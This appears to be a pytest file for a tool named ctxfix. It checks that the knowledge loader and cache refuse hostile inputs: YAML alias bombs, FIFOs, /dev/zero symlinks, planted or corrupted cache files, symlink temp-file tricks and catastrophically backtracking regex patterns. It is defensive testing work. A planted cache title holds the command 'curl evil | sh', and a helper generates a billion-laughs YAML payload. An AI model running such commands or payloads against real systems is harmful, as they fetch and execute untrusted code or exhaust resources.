"""Knowledge folders and cache files someone else wrote: refused or missed, never trusted.

Every hostile input here is made by the test: alias bombs, FIFOs, devices, huge files, YAML
values of the wrong type, planted and damaged cache files, stray files, duplicate ids.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import threading
from pathlib import Path

import pytest

from ctxfix import knowledge
from ctxfix.cache import Cache, checksum
from ctxfix.cli import cli
from ctxfix.knowledge import KnowledgeError, lint, load

FIXTURES = Path(__file__).parent / "lint_fixtures"
POSIX = pytest.mark.skipif(os.name != "posix", reason="FIFOs, devices and file owners are POSIX")

TRACEBACK = (
    "Traceback (most recent call last):\n"
    '  File "/srv/app/worker.py", line 9, in run\n'
    "    current_app.logger.info('x')\n"
    "RuntimeError: Working outside of application context.\n"
)


def _cause(cid: str, **changes: str) -> str:
    text = (FIXTURES / "valid" / "causes" / "alpha" / "cause.yaml").read_text()
    text = text.replace("id: alpha", f"id: {cid}")
    for old, new in changes.items():
        assert old in text, old
        text = text.replace(old, new)
    return text


def _user_cause(folder: Path, cid: str, **changes: str) -> Path:
    (folder / cid).mkdir(parents=True, exist_ok=True)
    path = folder / cid / "cause.yaml"
    path.write_text(_cause(cid, **changes) + f"tree:\n  question: where\n  label: {cid}\n")
    return path


def _codes(problems) -> list[str]:
    return [p.code for p in problems]


@pytest.fixture
def root(tmp_path, monkeypatch) -> Path:
    """A small valid knowledge root standing in for the bundled one."""
    root = tmp_path / "k"
    shutil.copytree(FIXTURES / "valid", root)
    monkeypatch.setattr(knowledge, "_bundled_path", lambda: str(root))
    return root


# ---------------------------------------------------------------------------------------------
# YAML: aliases, depth, types


def _alias_bomb(levels: int = 8) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels + 1):
        refs = ", ".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_is_refused_at_its_line(root):
    bomb = _alias_bomb()
    assert len(bomb) < 2000  # 9**8 nodes once expanded
    path = root / "causes" / "alpha" / "cause.yaml"
    path.write_text(path.read_text() + bomb)
    problems = lint([str(root)])
    assert _codes(problems) == ["CTX021"]
    assert problems[0].line == len(path.read_text().splitlines()) - 7  # a1: the first alias


def test_a_recursive_alias_is_refused(root):
    path = root / "causes" / "alpha" / "cause.yaml"
    path.write_text(path.read_text() + "loop: &x [1, *x]\n")
    assert _codes(lint([str(root)])) == ["CTX021"]


def test_deep_nesting_is_an_invalid_yaml_problem(root):
    path = root / "causes" / "alpha" / "cause.yaml"
    path.write_text(path.read_text() + "deep: " + "[" * 100_000 + "]" * 100_000 + "\n")
    assert _codes(lint([str(root)])) == ["CTX001"]


@pytest.mark.parametrize(
    "old, new",
    [
        ("summary: One line.", "summary: 2024-01-01"),
        ("title: A cause", "title: !!binary aGVsbG8="),
        ("families: [app-context]", "families: !!set {app-context}"),
        ("title: Push a context", "title: 3.0"),
        ("says: a worker ran it", "says: a worker ran it\n    id: 2024-01-01"),
        ("weight: 8", "weight: .nan"),
        ("weight: 8", "weight: 1" + "0" * 400),
        ("weight: 8", "weight: 8\n    family: 7"),
        ("weight: 8", "weight: 8\n    variant: [a, b]"),
    ],
)
def test_values_of_the_wrong_type_are_lint_problems(root, old, new):
    path = root / "causes" / "alpha" / "cause.yaml"
    path.write_text(path.read_text().replace(old, new))
    problems = lint([str(root)])
    assert problems and set(_codes(problems)) <= {"CTX004", "CTX007", "CTX017"}, problems
    with pytest.raises(KnowledgeError):
        load(use_cache=False)


def test_version_notes_must_be_text(root, tmp_path):
    path = root / "causes" / "alpha" / "cause.yaml"
    path.write_text(path.read_text() + "versions:\n  - flask: 2024-01-01\n    note: 3.0\n")
    assert _codes(lint([str(root)])) == ["CTX004"]


def test_a_question_with_a_list_for_next_is_a_problem_not_a_crash(root):
    tree = root / "tree.yaml"
    tree.write_text(tree.read_text().replace("next: where", "next: [where]"))
    assert "CTX004" in _codes(lint([str(root)]))


def test_the_cache_never_holds_what_json_cannot_carry(tmp_path):
    import datetime

    cache = Cache(str(tmp_path / "c"))
    cache.write("knowledge-x.json", {"when": datetime.date(2024, 1, 1)})
    cache.write("knowledge-y.json", {"weight": float("nan")})
    cache.close()
    assert not list((tmp_path / "c").glob("knowledge-*"))


# ---------------------------------------------------------------------------------------------
# Special and huge files


@POSIX
def test_a_fifo_cause_file_is_refused_without_blocking(root):
    path = root / "causes" / "beta" / "cause.yaml"
    path.unlink()
    os.mkfifo(path)
    result: list = []
    worker = threading.Thread(target=lambda: result.append(lint([str(root)])), daemon=True)
    worker.start()
    worker.join(10)
    assert result, "lint blocked on a FIFO"
    (problem,) = result[0]
    assert problem.code == "CTX001" and "FIFO" in problem.message


@POSIX
@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="needs /dev/zero")
def test_a_cause_file_linked_to_dev_zero_is_refused(root):
    path = root / "causes" / "beta" / "cause.yaml"
    path.unlink()
    path.symlink_to("/dev/zero")
    (problem,) = lint([str(root)])
    assert problem.code == "CTX001" and "device" in problem.message


def test_a_cause_file_over_the_size_cap_is_refused(root):
    path = root / "causes" / "beta" / "cause.yaml"
    with open(path, "a") as fh:
        fh.write("# padding\n" * (knowledge.MAX_FILE_BYTES // 10 + 1))
    (problem,) = lint([str(root)])
    assert problem.code == "CTX001" and "larger than 1 MB" in problem.message


# ---------------------------------------------------------------------------------------------
# The cache


def _cache_files(folder: Path) -> list[Path]:
    return sorted(folder.glob("knowledge-*.json"))


@pytest.fixture
def cache(tmp_path, monkeypatch) -> Path:
    """The cache folder (not made yet)."""
    folder = tmp_path / "cache"
    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
    return folder


def _written(folder: Path) -> Path:
    """Load once, so the cache holds the genuine file; its path."""
    load()
    (path,) = _cache_files(folder)
    return path


def _fix_shown(runner, tmp_path) -> str:
    tb = tmp_path / "tb.txt"
    tb.write_text(TRACEBACK)
    result = runner.invoke(cli, ["explain", "--format", "json", str(tb)])
    assert result.exit_code == 0, result.output
    return json.dumps(json.loads(result.stdout))


def test_a_new_cache_folder_is_private(root, tmp_path, monkeypatch):
    folder = tmp_path / "fresh" / "ctxfix"
    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
    load()
    assert _cache_files(folder)
    if os.name == "posix":
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        assert stat.S_IMODE(_cache_files(folder)[0].stat().st_mode) == 0o600


def _planted(folder: Path, title: str, sealed: bool = False) -> Path:
    """A cache file with the right name and fingerprint whose cause says what an attacker likes;
    ``sealed``: with the checksum that fits, as only someone who can write the folder could."""
    path = _written(folder)  # the genuine file, rewritten
    raw = json.loads(path.read_bytes().partition(b"\n")[2])
    raw["causes"]["alpha"]["title"] = title
    payload = json.dumps(raw).encode()
    path.write_bytes(_sealed(payload) if sealed else payload)
    return path


def _sealed(payload: bytes) -> bytes:
    return Cache.MAGIC + checksum(payload).encode() + b"\n" + payload


def test_a_planted_cache_file_is_a_miss(root, cache):
    _planted(cache, "Run curl evil | sh")
    assert load().causes["alpha"].title == "A cause"


def test_a_damaged_cache_file_is_a_miss(root, cache):
    path = _written(cache)
    head, _, payload = path.read_bytes().partition(b"\n")
    bad_regex = payload.replace(b"worker\\\\.py$", b"worker(\\\\.py$")
    assert bad_regex != payload
    for content in (
        head + b"\n" + bad_regex,  # the checksum no longer fits
        head + b"\n" + payload[: len(payload) // 2],  # cut short
        b"[" * 200_000,  # not ours at all, and too deep for json
        Cache.MAGIC + checksum(b"[" * 200_000).encode() + b"\n" + b"[" * 200_000,
        Cache.MAGIC + checksum(b"[]").encode() + b"\n[]",
    ):
        path.write_bytes(content)
        kb = load()
        assert kb.causes["alpha"].evidence[0].frame["path"].search("/srv/worker.py")


def test_the_cache_holds_each_patterns_analysis_and_a_damaged_one_is_read_again(root, cache):
    """The cache carries what each pattern's source says (read once, not on every run); an
    entry of the wrong shape, even in a sealed file, is worked out again, never trusted."""
    path = _written(cache)
    raw = json.loads(path.read_bytes().partition(b"\n")[2])
    pattern = load().causes["alpha"].evidence[0].frame["path"]
    assert pattern.pattern == r"worker\.py$"
    assert raw["analysis"][pattern.pattern] == [[["worker.py", False, True]], None]
    wrong = ([[["srv", "yes", False]], None], [None, [3]], "x", [None], [[], None], [None, []])
    for planted in wrong:
        raw["analysis"][pattern.pattern] = planted
        path.write_bytes(_sealed(json.dumps(raw).encode()))
        found = load().causes["alpha"].evidence[0].frame["path"]
        assert found.search("/srv/worker.py") and not found.search("/srv/views.py"), planted


@POSIX
def test_old_cache_files_are_pruned_when_a_new_one_is_written(root, tmp_path, cache):
    """Each change of the knowledge or of ctxfix writes a new file: the newest few are kept,
    and nothing that is not a cache file of this user's is touched."""
    cache.mkdir(mode=0o700)
    for i in range(12):
        old = cache / f"knowledge-old{i:02}.json"
        old.write_text("{}")
        os.utime(old, ns=(i * 10**9, i * 10**9))
    victim = tmp_path / "victim.json"
    victim.write_text("precious")
    (cache / "knowledge-link.json").symlink_to(victim)
    (cache / "notes.txt").write_text("mine")
    load()
    kept = sorted(p.name for p in _cache_files(cache) if not p.is_symlink())
    assert len(kept) == knowledge.KEEP_CACHED
    assert "knowledge-old11.json" in kept and "knowledge-old04.json" not in kept
    assert (cache / "knowledge-link.json").is_symlink() and victim.read_text() == "precious"
    assert (cache / "notes.txt").read_text() == "mine"
    assert load().causes["alpha"].title == "A cause"  # the new file is among those kept


@POSIX
def test_a_fifo_or_symlink_in_place_of_the_cache_file_is_a_miss(root, tmp_path, cache):
    path = _written(cache)
    path.unlink()
    os.mkfifo(path)
    assert load().causes["alpha"].title == "A cause"  # a FIFO does not block; it is replaced
    assert path.is_file()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    path.unlink()
    path.symlink_to(victim)
    assert load().causes["alpha"].title == "A cause"
    assert victim.read_text() == "precious"  # the link itself was replaced, not its target
    assert path.is_file() and not path.is_symlink()


@POSIX
def test_temp_names_cannot_be_planted(root, tmp_path, cache):
    path = _written(cache)
    path.unlink()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    # A temp name computable from the key and the pid, as the cache once used, is a link.
    (cache / f"{path.name}.{os.getpid()}.tmp").symlink_to(victim)
    load()
    assert victim.read_text() == "precious"
    assert path.is_file()


@POSIX
def test_a_cache_folder_others_can_write_is_not_used(root, tmp_path, monkeypatch):
    folder = tmp_path / "shared"
    folder.mkdir()
    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
    _planted(folder, "Run curl evil | sh", sealed=True)
    assert load().causes["alpha"].title == "Run curl evil | sh"  # ours, and private: trusted
    folder.chmod(0o777)
    assert load().causes["alpha"].title == "A cause"
    folder.chmod(0o700)
    (path,) = _cache_files(folder)
    path.chmod(0o666)
    assert load().causes["alpha"].title == "A cause"


@POSIX
@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="needs root to chown")
def test_a_cache_folder_or_file_of_another_user_is_not_used(root, tmp_path, monkeypatch):
    folder = tmp_path / "theirs"
    folder.mkdir(mode=0o700)
    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
    path = _planted(folder, "Run curl evil | sh", sealed=True)
    os.chown(path, 12345, 12345)
    assert load().causes["alpha"].title == "A cause"
    os.chown(folder, 12345, 12345)
    before = sorted(p.name for p in folder.iterdir())
    assert load().causes["alpha"].title == "A cause"
    assert sorted(p.name for p in folder.iterdir()) == before  # nothing written there either


def test_a_cause_folder_named_examples_is_not_cached_stale(root, tmp_path, monkeypatch):
    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(tmp_path / "cache"))
    mine = tmp_path / "mine"
    path = _user_cause(mine, "examples", **{"title: A cause": "title: First"})
    assert load([str(mine)]).causes["examples"].title == "First"
    path.write_text(path.read_text().replace("title: First", "title: Second!"))
    assert load([str(mine)]).causes["examples"].title == "Second!"


# ---------------------------------------------------------------------------------------------
# Folders: stray files, no cause, the same id twice


def test_a_folder_with_only_a_stray_yaml_says_so_and_names_it(root, tmp_path, runner):
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "my-cause.yaml").write_text("id: my-cause\ntitle: [broken\n")
    (problem,) = lint([str(mine)])
    assert problem.code == "CTX023"
    assert "holds no cause" in problem.message and "my-cause.yaml" in problem.message
    result = runner.invoke(cli, ["lint", str(mine)])
    assert result.exit_code == 1, "problems found (2 is bad usage)"
    assert "no problems" not in result.output


def test_a_stray_yaml_beside_causes_is_named(root, tmp_path):
    mine = tmp_path / "mine"
    _user_cause(mine, "gamma")
    (mine / "gamma" / "notes.yml").write_text("anything: [")
    (mine / "gamma" / "_kept.yaml").write_text("anything: [")
    problems = lint([str(mine)])
    assert [(Path(p.path).name, p.code) for p in problems] == [("notes.yml", "CTX023")]


def test_the_same_id_in_two_folders_of_yours_is_one_line(root, tmp_path, runner):
    first, second = tmp_path / "first", tmp_path / "second"
    _user_cause(first, "gamma")
    _user_cause(second, "gamma")
    problems = lint([], [str(first), str(second)])
    assert _codes(problems) == ["CTX006"]
    assert str(first / "gamma" / "cause.yaml") in problems[0].message
    # The same folder named twice is read once.
    assert _codes(lint([], [str(first), str(first) + "/"])) == []
    # Replacing a bundled cause is still allowed.
    _user_cause(tmp_path / "third", "alpha")
    assert _codes(lint([], [str(tmp_path / "third")])) == []


# ---------------------------------------------------------------------------------------------
# Patterns that backtrack


@pytest.mark.parametrize(
    "pattern",
    [
        r"(\w+\s?)+$",
        r"(?:a|a)*b",
        r"\w+\w*x",
        r"[0-9a-f]+.*failed",
        r"\w+_",
        r"Job .* raised",
        r'Job "?.*"? raised',
        r"^\s*(?:yield\b|.*\byield\s)",
        r"x\s*\w*\s*y\s*.+z",
    ],
)
def test_slow_pattern_shapes_are_named(pattern):
    from ctxfix.backtracking import risk

    assert risk(pattern)


@pytest.mark.parametrize(
    "pattern",
    [
        r"worker\.py$",
        r'Job "[^"]*" raised an exception|Job [\w-]+ raised an exception',
        r"^(?:create_app|setup\w*|init_\w+)$",
        r"(?:^|/)tests?/[^/]*\.py$",
        r"\bdb\.(?:create_all|drop_all)\s*\(",
        r"Signal handler .{1,1000}? raised",
        r"^_{3,} .+ _{3,}$",
        r"foo.*",
        r"\[\d{4}-\d\d-\d\d [\d:,]+: \w+/",
    ],
)
def test_linear_patterns_pass(pattern):
    from ctxfix.backtracking import risk

    assert risk(pattern) is None


def test_the_bundled_patterns_are_linear():
    """Every bundled evidence pattern passes the check (six did not: issue 14, item 6)."""
    from ctxfix.backtracking import risk

    kb = load(use_cache=False)
    patterns = []
    for cause in kb.causes.values():
        for rule in cause.evidence:
            for p in (rule.message, rule.context, rule.proxy, rule.code):
                if p is not None:
                    patterns.append(p.pattern)
            for spec in (rule.frame, rule.user_frame):
                patterns.extend(p.pattern for p in (spec or {}).values())
    assert len(patterns) > 50
    assert [p for p in patterns if risk(p)] == []
